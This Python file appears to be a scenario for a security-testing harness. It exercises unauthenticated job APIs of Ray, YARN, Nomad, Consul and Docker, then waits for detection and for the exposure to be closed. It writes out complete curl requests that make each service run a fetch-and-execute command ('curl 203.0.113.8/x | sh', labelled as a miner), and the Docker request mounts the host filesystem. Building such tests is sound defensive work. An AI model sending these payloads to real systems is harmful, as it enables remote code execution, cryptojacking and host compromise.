# SPDX-License-Identifier: ISC
"""What starts jobs starts those of strangers: Ray, YARN, Nomad, Consul, Docker."""

HOSTS = {"ray": (97, 1), "yarn": (98, 1), "nomad": (99, 1), "consul": (100, 1), "docker": (101, 1)}
PACKAGES = ["curl", "python3"]
PLAYED = ["Ray", "YARN", "Nomad", "Consul", "Docker"]
PORTS = {"ray": 8265, "yarn": 8088, "nomad": 4646, "consul": 8500, "docker": 2375}

MINER = "curl 203.0.113.8/x | sh"
LOOK = {
    "ray": ["/api/version", "/api/jobs/"],
    "yarn": ["/ws/v1/cluster/info"],
    "nomad": ["/v1/jobs"],
    "consul": ["/v1/catalog/services"],
    "docker": ["/version", "/v1.41/containers/json"],
}
# Verb, path and body, in order.
RUN = {
    "ray": [("POST", "/api/jobs/", f'{{"entrypoint":"{MINER}"}}')],
    "yarn": [("POST", "/ws/v1/cluster/apps/new-application", ""),
             ("POST", "/ws/v1/cluster/apps", '{"application-id":"application_1732000000000_0001",'
              '"application-name":"a","application-type":"YARN","am-container-spec":{"commands":'
              f'{{"command":"{MINER}"}}}}}}')],
    "nomad": [("POST", "/v1/jobs", '{"Job":{"ID":"x","Type":"batch","TaskGroups":[{"Name":"x","Tasks":'
               f'[{{"Name":"x","Driver":"raw_exec","Config":{{"command":"{MINER}"}}}}]}}]}}}}')],
    "consul": [("PUT", "/v1/agent/check/register", '{"Name":"x","Args":["sh","-c",'
                f'"{MINER}"],"Interval":"10s"}}')],
    "docker": [("POST", "/v1.41/containers/create?name=x", '{"Image":"alpine","Cmd":["sh","-c",'
                f'"{MINER}"],"HostConfig":{{"Binds":["/:/mnt"]}}}}'),
               ("POST", "/v1.41/containers/0123456789ab/start", "")],
}


def look(role):
    at = f"http://${role.upper()}:{PORTS[role]}"
    return "; ".join(f"curl -sS {at}{path}" for path in LOOK[role])


def run(role):
    at = f"http://${role.upper()}:{PORTS[role]}"
    return "; ".join(f"curl -sS -X {verb} -H 'Content-Type: application/json' -d '{body}' "
                     f'"{at}{path}"' for verb, path, body in RUN[role])


def play(stage):
    for role, port in PORTS.items():
        stage.serve_played(role, __file__, (role + ".played", port))
        stage.colleague(look(role))
        stage.colleague(run(role))

    group = [(stage.address(role), "tcp", port) for role, port in PORTS.items()]
    stage.close(*group)
    stage.probe(group)
    stage.wait_wall()
    stage.change("opened", "open", group)
    for number, role in enumerate(PORTS):
        stage.ask(number, look(role))
    stage.wait("who they are", "kind=exposure.opened", count=len(PORTS))
    for number, role in enumerate(PORTS):
        stage.ask(number + 1, run(role))
        stage.wait(f"the job of {role}", "level=executed", f"server.ip={stage.address(role)}")

    stage.change("closed", "shut", group)
    stage.probe(group, first=4)
    stage.wait("the proof", "kind=incident.closed")
